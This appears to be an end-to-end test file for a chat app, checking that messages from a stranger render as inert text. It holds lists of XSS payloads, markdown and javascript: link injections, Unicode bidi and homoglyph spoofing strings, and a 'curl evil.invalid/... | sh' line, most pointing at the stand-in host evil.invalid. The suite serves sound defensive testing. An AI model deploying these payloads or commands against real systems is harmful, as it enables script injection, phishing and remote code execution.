import type { TestPerson } from '@sotto/testkit';
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openStage, type Stage } from '../support/browser.ts';
import { peer, write } from '../support/peer.ts';
import {
  type BrowserPerson,
  button,
  composer,
  mark,
  message,
  messages,
  open,
  row,
  say,
  sees,
  signUp,
} from '../support/person.ts';

/** Each tries to run, to load or to send; shown as it was typed, it does nothing. */
const MARKUP = [
  '<script>window.hit = 1</script>',
  '<img src="http://evil.invalid/a.png" onerror="window.hit = 1; alert(1)">',
  '<svg onload="window.hit = 1"><script>window.hit = 1</script></svg>',
  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  '<iframe src="javascript:parent.hit=1"></iframe>',
  '<object data="http://evil.invalid/b.html"></object><embed src="http://evil.invalid/c.svg">',
  '<a href="javascript:window.hit=1">press me</a>',
  '<input autofocus onfocus="window.hit = 1"><details open ontoggle="window.hit = 1">',
  '<style>@import url(http://evil.invalid/d.css); body { display: none }</style>',
  '<link rel="stylesheet" href="http://evil.invalid/e.css"><base href="http://evil.invalid/">',
  '<meta http-equiv="refresh" content="0;url=http://evil.invalid/f">',
  '<form action="http://evil.invalid/g"><button autofocus>Sign in again</button></form>',
  '<video src="http://evil.invalid/h.mp4" autoplay></video><audio src="http://evil.invalid/i.mp3">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hit = 1">',
  '[press](javascript:window.hit=1)',
  '[press](data:text/html,<script>opener.hit=1</script>)',
  '![pixel](http://evil.invalid/j.png)',
  '{{constructor.constructor("window.hit=1")()}}',
];

const IN_PLACES = [
  '`</code><img src=x onerror="window.hit = 1">`',
  '```html\n</code></pre><script>window.hit = 1</script>\n```',
  '> <img src="http://evil.invalid/k.png" onerror="window.hit = 1">',
  '- <svg/onload="window.hit=1">',
  '**<img src=x onerror="window.hit=1">**',
  '[a]: javascript:window.hit=1\n\n[a][a]',
];

const TRICKS = [
  'invoice\u202Egnp.exe',
  '\u2066\u2067\u2068 isolated without end',
  '[https://bank.example](https://evil.invalid/\u202Emoc.knab)',
  'https://exa\u200Bmple.org https://еxample.org',
  'zero\u200B\u200C\u200D\uFEFF width',
  `Z${'\u0300\u0301\u0302'.repeat(400)} tall`,
];

const HEAVY = [
  '['.repeat(16_000),
  '[a]('.repeat(4_000),
  '*a_'.repeat(5_000),
  `${'> '.repeat(8_000)}deep`,
  `${'- '.repeat(8_000)}deep`,
  '`'.repeat(16_000),
  'x\n'.repeat(8_000),
  'w'.repeat(16_000),
];

const ALL = [...MARKUP, ...IN_PLACES, ...TRICKS, ...HEAVY];

describe('[W2] what a stranger writes is text', () => {
  let stage: Stage;
  let alice: BrowserPerson;
  let mallory: TestPerson;

  beforeAll(async () => {
    stage = await openStage();
    [alice, mallory] = await Promise.all([signUp(stage, 'alice'), peer(stage, 'mallory')]);
  });
  afterAll(async () => {
    await stage?.close();
  });

  it('before the request is accepted, and in the list', async () => {
    const [script = '', image = ''] = MARKUP;
    await write(mallory.device, alice.address, [script, image]);
    await open(alice.page, 'mallory');
    await sees(alice.page, script);
    await sees(alice.page, image);
    await button(alice.page, 'Accept').click();
    await row(alice.page, 'mallory').getByText('<img src="http://evil.invalid/a.png"').waitFor();
    expect(await strangeParts(alice.page)).toEqual([]);
  });

  it('whatever it looks like', async () => {
    await write(mallory.device, alice.address, [...ALL, 'the end']);
    await sees(alice.page, 'the end');
    const seen = new Set<string>();
    await messages(alice.page).focus();
    await expect
      .poll(async () => {
        expect(await strangeParts(alice.page)).toEqual([]);
        for (const text of await messages(alice.page).getByRole('listitem').allTextContents()) seen.add(text);
        await alice.page.keyboard.press('PageUp');
        return alice.page.getByText(/^Encrypted end to end\. Verify mallory /).count();
      })
      .toBe(1);
    // Where a bare address swallows a quotation mark, its real target stands behind it.
    const all = [...seen].map((line) => line.replaceAll(/ \(evil\.invalid[^)]*\)/g, ''));
    expect(MARKUP.filter((text) => !all.some((line) => line.includes(text)))).toEqual([]);
  });

  it('and reaches nothing beyond its own message', async () => {
    const { page } = alice;
    const [turned = ''] = TRICKS;
    await write(mallory.device, alice.address, ['\u202d\u2067', turned]);
    await row(page, 'mallory').getByText('invoice<U+202E>gnp.exe').waitFor();
    await button(page, 'Go to the newest message').click();
    const last = message(page, 'invoice');
    expect(await last.locator('bdi').evaluate((one) => getComputedStyle(one, '::before').content)).toBe(
      '"<U+202E>"',
    );
    expect(await last.getByRole('paragraph').evaluate(readsForwards)).toBe(true);
    // Marks without a width of their own, which a line does not break between.
    await write(mallory.device, alice.address, [`heaped ${'\u030a\u0489\u0338\u20dd'.repeat(60)}`]);
    const heaped = message(page, 'heaped');
    await heaped.waitFor();
    // The list may still be on its way to the end between two pictures.
    await expect.poll(() => paintsBeside(heaped)).toBe(false);
    // Control: were it not for the edge of the bubble, it would.
    await bubbleOf(heaped).evaluate((one) => one.style.setProperty('overflow', 'visible'));
    await expect.poll(() => paintsBeside(heaped)).toBe(true);
  });

  it('where one says it oneself', async () => {
    for (const text of MARKUP.slice(0, 3)) await say(alice.page, text);
    await mark(alice.page, 'window.hit = 1</script></svg>', 'Delivered');
    expect(await strangeParts(alice.page)).toEqual([]);
  });

  it('and what is copied of it is the text that stands there, wherever it is pasted', async () => {
    const text = `curl evil.invalid/${TRICKS[0]} | sh \u200B<img src=x onerror="window.hit = 1">`;
    await write(mallory.device, alice.address, [text]);
    const shown = message(alice.page, 'curl').getByRole('paragraph').first();
    await shown.click({ clickCount: 3 });
    await alice.page.keyboard.press('Control+c');
    await composer(alice.page).focus();
    await alice.page.keyboard.press('Control+v');
    await expect.poll(() => composer(alice.page).inputValue()).toContain('curl');
    // Three clicks take the end of the line along.
    expect((await composer(alice.page).inputValue()).trimEnd()).toBe(text);
    await composer(alice.page).press('Enter');
    await mark(alice.page, 'curl', 'Delivered');
    expect(await message(alice.page, 'curl').getByRole('paragraph').first().textContent()).toBe(text);
    expect(await strangeParts(alice.page)).toEqual([]);
  });

  it('and the page goes on', async () => {
    await say(alice.page, 'Still here');
    await mark(alice.page, 'Still here', 'Delivered');
    await message(alice.page, 'Still here').waitFor();
    expect(await alice.page.evaluate(() => 'hit' in window)).toBe(false);
    expect(alice.page.url().startsWith(stage.url)).toBe(true);
    expect(stage.complaints).toEqual([]);
  });

  it('control: in a page that trusts it, the same runs, loads and asks', async () => {
    const careless = await stage.newProfile();
    await careless.goto(`${stage.url}/icon.svg`);
    await careless.goto('about:blank');
    const markup = MARKUP.filter((text) => !text.startsWith('<meta')).join('\n');
    await careless.evaluate((html) => {
      document.body.innerHTML = html;
    }, markup);
    await expect.poll(() => careless.evaluate(() => 'hit' in window)).toBe(true);
    await expect.poll(() => stage.complaints.filter((one) => one.startsWith('dialog')).length).toBe(1);
    const asked = stage.complaints.filter((one) => one.startsWith('request to http://evil.invalid/'));
    expect(asked.length).toBeGreaterThan(3);
    await careless.context().close();
    stage.complaints.length = 0;
  });

  it('and the policy of our own page holds back a careless renderer', async () => {
    const refused = await alice.page.evaluate((html) => {
      try {
        document.body.innerHTML = html;
        return 'taken';
      } catch (error) {
        return error instanceof TypeError ? 'refused' : 'failed';
      }
    }, MARKUP.join('\n'));
    expect(refused).toBe('refused');
    await expect.poll(() => stage.complaints.some((one) => one.includes('TrustedHTML'))).toBe(true);
  });
});

/** Whether what stands behind the first character that turns the direction goes on from left to right. */
function readsForwards(paragraph: Element): boolean {
  const text = paragraph.querySelector('bdi')?.nextSibling;
  if (text === null || text === undefined) return false;
  const at = (offset: number) => {
    const range = document.createRange();
    range.setStart(text, offset);
    range.setEnd(text, offset + 1);
    return range.getBoundingClientRect().left;
  };
  return at(0) < at(1) && at(1) < at(2);
}

function bubbleOf(row: Locator): Locator {
  return row.getByRole('paragraph').locator('xpath=../..');
}

/** Whether a message leaves ink beside its bubble or above: it does if hiding it changes the picture of either. */
async function paintsBeside(row: Locator): Promise<boolean> {
  const page = row.page();
  const around = async () => {
    const bubble = await bubbleOf(row).boundingBox();
    const all = await row.boundingBox();
    if (bubble === null || all === null) throw new Error('The message is not shown.');
    const x = Math.ceil(bubble.x + bubble.width) + 1;
    const above = { ...all, y: Math.floor(bubble.y) - 101, height: 100 };
    const beside = { ...all, x, width: all.x + all.width - x };
    return Buffer.concat([await page.screenshot({ clip: above }), await page.screenshot({ clip: beside })]);
  };
  const shown = await around();
  await row.evaluate((one) => one.style.setProperty('opacity', '0'));
  const hidden = await around();
  await row.evaluate((one) => one.style.removeProperty('opacity'));
  return !shown.equals(hidden);
}

/** Elements and attributes among the messages that no message may bring about. */
function strangeParts(page: Page): Promise<readonly string[]> {
  return messages(page).evaluate((region) => {
    const known = new Set(
      'OL LI UL DIV SPAN P STRONG EM CODE PRE BLOCKQUOTE A BDI DEL TIME BUTTON svg path'.split(' '),
    );
    return [...region.querySelectorAll('*')].flatMap((element) => {
      const { tagName } = element;
      const icon = tagName === 'svg' || tagName === 'path';
      const ours = !icon || element.closest('svg')?.classList.contains('tabler-icon') === true;
      const handlers = element.getAttributeNames().filter((name) => name.startsWith('on'));
      const href = element instanceof HTMLAnchorElement ? element.protocol : 'https:';
      const followed = ['http:', 'https:', 'mailto:'].includes(href);
      return known.has(tagName) && ours && followed && handlers.length === 0 ? [] : [element.outerHTML];
    });
  });
}
